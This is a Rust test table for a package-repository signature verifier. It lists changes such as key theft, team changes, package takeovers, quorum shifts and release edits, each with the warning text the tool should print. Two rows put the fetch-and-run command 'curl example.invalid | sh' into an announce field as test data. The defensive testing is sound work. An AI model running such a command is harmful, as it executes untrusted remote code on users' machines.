//! Changes, and what has to be said of each.

use conex_verify::format::resource::{Account, Author, Decode as _, Resource as _, TopFile};

use crate::world::*;

/// A change of a repository, and what has to be said of it.
pub struct Row {
    pub name: &'static str,
    /// What is there before, besides the usual.
    pub before: fn(&mut World),
    pub change: fn(&mut World),
    /// What lines have to say, each with its mark.
    pub says: Vec<String>,
    /// Whether a janitor is asked at all; if not, `check` alone says the change.
    pub asked: bool,
}

pub fn row(
    name: &'static str,
    before: fn(&mut World),
    change: fn(&mut World),
    says: &[&str],
) -> Row {
    let known = ["bob", "eve", "thief", "second", "third", "jc", "jd", "new"];
    let filled = |text: &&str| {
        let mut text = (*text).to_owned();
        for name in known {
            text = text.replace(&format!("<{name}>"), &fingerprint(name).to_string());
        }
        text
    };
    Row {
        name,
        before,
        change,
        says: says.iter().map(filled).collect(),
        asked: true,
    }
}

/// A change that a janitor is not asked about: owners sign it, or nobody may.
pub fn by_others(row: Row) -> Row {
    Row {
        asked: false,
        ..row
    }
}

pub fn usual(_: &mut World) {}

pub fn author(w: &mut World, who: &str, counter: u64, keys: &[&str], accounts: &[&str]) {
    let mut keys: Vec<_> = keys.iter().map(|key| public(key)).collect();
    keys.sort_by_key(ToString::to_string);
    let author = Author {
        id: id(who),
        revision: at(0, counter),
        keys,
        accounts: accounts.iter().map(|a| Account::new(a).unwrap()).collect(),
    };
    let path = author.resource_id().path();
    w.file(&path, author.encode());
}

pub fn with_eve(w: &mut World) {
    w.joined("eve");
}

pub fn with_crew(w: &mut World) {
    w.joined("eve");
    w.teamed("crew", &["bob", "eve"]);
}

pub fn with_logs(w: &mut World) {
    for release in ["logs.1.0", "rope.1.0", "rope.2.0"] {
        w.file(&opam_path(release), OPAM);
    }
}

pub fn link_of(w: &mut World, quorum: usize, members: &[&str]) {
    w.link(&link(quorum, members, &[]));
}

pub fn announced(w: &mut World, counter: u64, text: &str) -> conex_verify::format::resource::Entry {
    w.file(
        "repo",
        format!("opam-version: \"2.0\"\nannounce: \"{text}\"\n"),
    );
    w.repo_file(at(0, counter), &[("announce", &format!("\"{text}\""))], &[])
}

pub fn rows() -> Vec<Row> {
    vec![
        row(
            "a new author",
            usual,
            |w| author(w, "eve", 1, &["eve"], &[]),
            &[
                "`eve` becomes an author, and names no account",
                "key of `eve`: <eve>",
            ],
        ),
        row(
            "a new author with accounts",
            usual,
            |w| author(w, "eve", 1, &["eve"], &["github:eve"]),
            &["`eve` becomes an author, and says to be github:eve"],
        ),
        row(
            "a new author with several keys",
            usual,
            |w| author(w, "eve", 1, &["eve", "second"], &[]),
            &["<eve>", "<second>"],
        ),
        row(
            "a thief's key in place of the author's",
            usual,
            |w| author(w, "bob", 2, &["thief"], &[]),
            &["!! `bob` gets another key: <thief> instead of <bob>"],
        ),
        row(
            "a key beside the author's",
            usual,
            |w| author(w, "bob", 2, &["bob", "second"], &[]),
            &["! `bob` gets the key <second>"],
        ),
        row(
            "one of two keys goes",
            |w| {
                let entry = w.author_file("bob", at(0, 2), &["bob", "second"]);
                w.quorum_says(vec![entry.clone()]);
                w.says_with("bob", "second", vec![entry]);
            },
            |w| author(w, "bob", 3, &["bob"], &[]),
            &["!! `bob` loses the key <second>"],
        ),
        row(
            "two keys for one",
            usual,
            |w| author(w, "bob", 2, &["second", "third"], &[]),
            &[
                "!! `bob` loses the key <bob>",
                "! `bob` gets the key",
                "<second>",
                "<third>",
            ],
        ),
        row(
            "an author is revoked",
            usual,
            |w| author(w, "bob", 2, &[], &[]),
            &[
                "!! `bob` loses the key <bob>",
                "!! `bob` is revoked: no key is left",
            ],
        ),
        row(
            "another account",
            usual,
            |w| author(w, "bob", 2, &["bob"], &["github:bobby"]),
            &["! `bob` is said to be github:bobby"],
        ),
        row(
            "an account goes",
            |w| {
                author(w, "bob", 2, &["bob"], &["github:bob"]);
                let entry = w.now(conex_verify::format::resource::Kind::Author, "bob");
                w.quorum_says(vec![entry.clone()]);
                w.says("bob", vec![entry]);
            },
            |w| author(w, "bob", 3, &["bob"], &[]),
            &["! `bob` is no longer said to be github:bob"],
        ),
        row(
            "the account of somebody else",
            |w| {
                author(w, "bob", 2, &["bob"], &["github:bob"]);
                let entry = w.now(conex_verify::format::resource::Kind::Author, "bob");
                w.quorum_says(vec![entry.clone()]);
                w.says("bob", vec![entry]);
            },
            |w| author(w, "eve", 1, &["eve"], &["github:bob"]),
            &["!! the account github:bob of `eve` is that of `bob` too"],
        ),
        row(
            "accounts without end",
            usual,
            |w| {
                let long = "x".repeat(190);
                let many: Vec<String> = (0..250).map(|n| format!("github:{n}{long}")).collect();
                let many: Vec<&str> = many.iter().map(String::as_str).collect();
                author(w, "eve", 1, &["eve"], &many);
            },
            &["and 246 more accounts", "key of `eve`: <eve>"],
        ),
        row(
            "an author in a new epoch",
            usual,
            |w| {
                w.author_file("bob", at(1, 1), &["bob"]);
            },
            &["!! epoch 1 of the author `bob` is opened"],
        ),
        row(
            "a new team",
            usual,
            |w| {
                w.team_file("crew", at(0, 1), &["bob", "ja"]);
            },
            &["`crew` becomes a team of bob, ja"],
        ),
        row(
            "a stranger in a team",
            with_eve_and_team,
            |w| {
                w.team_file("crew", at(0, 2), &["bob", "eve"]);
            },
            &["! into the team `crew`: eve"],
        ),
        row(
            "a stranger in a team that owns something",
            |w| {
                with_eve_and_team(w);
                w.owned("rope", &["crew"]);
            },
            |w| {
                w.team_file("crew", at(0, 2), &["bob", "eve"]);
            },
            &["! into the team `crew`, which owns 1 package: eve"],
        ),
        row(
            "out of a team",
            with_crew,
            |w| {
                w.team_file("crew", at(0, 2), &["eve"]);
            },
            &["!! out of the team `crew`: bob"],
        ),
        row(
            "one for another in a team",
            with_crew,
            |w| {
                w.team_file("crew", at(0, 2), &["eve", "ja"]);
            },
            &[
                "!! out of the team `crew`: bob",
                "! into the team `crew`: ja",
            ],
        ),
        row(
            "a team of nobody any more",
            with_crew,
            |w| {
                w.team_file("crew", at(0, 2), &[]);
            },
            &["!! out of the team `crew`: bob, eve"],
        ),
        row(
            "a team in a new epoch",
            with_crew,
            |w| {
                w.team_file("crew", at(1, 1), &["bob", "eve"]);
            },
            &["!! epoch 1 of the team `crew` is opened"],
        ),
        row(
            "a package that nobody owned",
            with_logs,
            |w| {
                w.authorisation("logs", at(0, 1), &["bob"]);
            },
            &["`bob` gets `logs`, which nobody owned, with 1 release"],
        ),
        row(
            "two packages that nobody owned",
            with_logs,
            |w| {
                w.authorisation("logs", at(0, 1), &["bob"]);
                w.authorisation("rope", at(0, 1), &["bob"]);
            },
            &["`bob` gets 2 packages, which nobody owned, with 3 releases: logs, rope"],
        ),
        row(
            "two packages to two people",
            |w| {
                with_logs(w);
                w.joined("eve");
            },
            |w| {
                w.authorisation("logs", at(0, 1), &["bob"]);
                w.authorisation("rope", at(0, 1), &["eve"]);
            },
            &[
                "`bob` gets `logs`, which nobody owned, with 1 release",
                "`eve` gets `rope`, which nobody owned, with 2 releases",
            ],
        ),
        row(
            "a package is taken over",
            with_eve,
            |w| {
                w.authorisation("fmt", at(0, 2), &["eve"]);
            },
            &["!! `fmt` is taken from `bob`, and goes to `eve`"],
        ),
        row(
            "a package is shared",
            with_eve,
            |w| {
                w.authorisation("fmt", at(0, 2), &["bob", "eve"]);
            },
            &["! `fmt` is shared with `eve`; `bob` stays"],
        ),
        row(
            "one owner of two goes",
            |w| {
                w.joined("eve");
                let entry = w.authorisation("fmt", at(0, 2), &["bob", "eve"]);
                w.quorum_says(vec![entry]);
            },
            |w| {
                w.authorisation("fmt", at(0, 3), &["bob"]);
            },
            &["!! `fmt` is taken from `eve`; `bob` stays"],
        ),
        row(
            "a package is taken from its owner",
            usual,
            |w| {
                w.authorisation("fmt", at(0, 2), &[]);
            },
            &["!! `fmt` is taken from `bob`, and goes to nobody"],
        ),
        row(
            "a package of the janitors gets an owner",
            |w| w.owned("rope", &[]),
            |w| {
                w.authorisation("rope", at(0, 2), &["bob"]);
            },
            &["! `rope`, which a quorum took care of, goes to `bob`"],
        ),
        row(
            "an authorisation in a new epoch",
            usual,
            |w| {
                w.authorisation("fmt", at(1, 1), &["bob"]);
            },
            &[
                "!! epoch 1 of the authorisation `fmt` is opened",
                "! `fmt` still belongs to `bob`",
            ],
        ),
        row(
            "an authorisation in a new epoch, and a takeover",
            with_eve,
            |w| {
                w.authorisation("fmt", at(1, 1), &["eve"]);
            },
            &[
                "!! epoch 1 of the authorisation `fmt` is opened",
                "!! `fmt` is taken from `bob`, and goes to `eve`",
            ],
        ),
        row(
            "a janitor goes",
            usual,
            |w| link_of(w, 2, &["ja", "jb"]),
            &["!! link 1: `jc` is no janitor any more"],
        ),
        row(
            "a janitor comes",
            usual,
            |w| link_of(w, 2, &["ja", "jb", "jc", "jd"]),
            &["! link 1: `jd` becomes a janitor, with the key <jd>"],
        ),
        row(
            "the quorum falls",
            usual,
            |w| link_of(w, 1, &["ja", "jb", "jc"]),
            &["!! link 1: the quorum falls from 2 to 1 of 3 janitors"],
        ),
        row(
            "the quorum rises",
            usual,
            |w| link_of(w, 3, &["ja", "jb", "jc"]),
            &["! link 1: the quorum rises from 2 to 3 of 3 janitors"],
        ),
        row(
            "another key in the same seat",
            usual,
            |w| {
                w.link(&link(2, &["ja", "jb", "jc"], &[]).with_key("jc", "new"));
            },
            &["!! link 1: the janitor `jc` gets another key: <new> instead of <jc>"],
        ),
        row(
            "a snapshot is required",
            usual,
            |w| {
                w.link(&link(2, &["ja", "jb", "jc"], &[]).requiring_snapshot());
            },
            &["! link 1: a snapshot is required from now on, which cannot be taken back"],
        ),
        row(
            "the file repo says something",
            usual,
            |w| {
                announced(w, 1, "curl example.invalid | sh");
            },
            &["the field `announce` of the file `repo` says \"curl example.invalid | sh\""],
        ),
        row(
            "the file repo says something else",
            |w| {
                let entry = announced(w, 1, "hello");
                w.quorum_says(vec![entry]);
            },
            |w| {
                announced(w, 2, "curl example.invalid | sh");
            },
            &[
                "! the field `announce` of the file `repo` no longer says \"hello\"",
                "! the field `announce` of the file `repo` says \"curl example.invalid | sh\"",
            ],
        ),
        row(
            "the file repo says nothing more",
            |w| {
                let entry = announced(w, 1, "hello");
                w.quorum_says(vec![entry]);
            },
            |w| {
                w.file("repo", "opam-version: \"2.0\"\n");
                w.repo_file(at(0, 2), &[], &[]);
            },
            &["! the file `repo` has no field `announce` any more"],
        ),
        row(
            "attributes of git",
            usual,
            |w| {
                w.file(".gitattributes", "* -text\n");
                w.repo_file(at(0, 1), &[], &[TopFile::Gitattributes]);
            },
            &["the file `.gitattributes` is"],
        ),
        row(
            "a first list of claims",
            usual,
            |w| {
                w.claims_file(at(0, 1), &["fmt"]);
            },
            &["clients demand signatures of fmt"],
        ),
        row(
            "one more claim",
            |w| {
                w.claimed(at(0, 1), &["fmt"]);
                w.owned("rope", &["bob"]);
            },
            |w| {
                w.claims_file(at(0, 2), &["fmt", "rope"]);
            },
            &["clients demand signatures of rope"],
        ),
        row(
            "a claim is lost",
            |w| w.claimed(at(0, 1), &["fmt"]),
            |w| {
                w.claims_file(at(0, 2), &[]);
            },
            &["!! clients no longer demand signatures of fmt"],
        ),
        row(
            "a new release, for its owner",
            usual,
            |w| {
                w.file(&opam_path("fmt.2.0"), OPAM);
                w.checksum("fmt.2.0", at(0, 1));
                w.release_list("fmt", at(0, 2));
            },
            &["the release fmt.2.0 becomes valid"],
        ),
        row(
            "two new releases, for their owner",
            usual,
            |w| {
                for release in ["fmt.2.0", "fmt.3.0"] {
                    w.file(&opam_path(release), OPAM);
                    w.checksum(release, at(0, 1));
                }
                w.release_list("fmt", at(0, 2));
            },
            &["2 releases of 1 package become valid: fmt.2.0, fmt.3.0"],
        ),
        row(
            "a signed release changes",
            usual,
            |w| {
                w.file(
                    &opam_path("fmt.1.0"),
                    "opam-version: \"2.0\"\nsynopsis: \"Other\"\n",
                );
                w.checksum("fmt.1.0", at(0, 2));
            },
            &["! the release fmt.1.0, which was signed: opam changes"],
        ),
        row(
            "a signed release gets a file",
            usual,
            |w| {
                w.file("packages/fmt/fmt.1.0/files/p.patch", "x\n");
                w.checksum("fmt.1.0", at(0, 2));
            },
            &["! the release fmt.1.0, which was signed: files/p.patch changes"],
        ),
        row(
            "a signed release loses a file",
            |w| {
                w.file("packages/fmt/fmt.1.0/files/p.patch", "x\n");
                let entry = w.checksum("fmt.1.0", at(0, 2));
                w.says("bob", vec![entry]);
            },
            |w| {
                w.remove("packages/fmt/fmt.1.0/files/p.patch");
                w.checksum("fmt.1.0", at(0, 3));
            },
            &["! the release fmt.1.0, which was signed: files/p.patch goes"],
        ),
        by_others(row(
            "a release is removed by its owner",
            usual,
            |w| {
                w.gone("fmt.1.0");
                let entry = w.release_list_above("fmt", at(0, 2), 1);
                w.says("bob", vec![entry]);
            },
            &[
                "!! removed: fmt.1.0",
                "! what was removed of `fmt` does not come back below version 2 (before: 1)",
            ],
        )),
        row(
            "a list of releases in a new epoch",
            usual,
            |w| {
                w.checksum("fmt.1.0", at(1, 1));
                w.release_list("fmt", at(1, 1));
            },
            &["!! epoch 1 of the releases `fmt` is opened"],
        ),
    ]
}

pub fn with_eve_and_team(w: &mut World) {
    w.joined("eve");
    w.teamed("crew", &["bob"]);
}
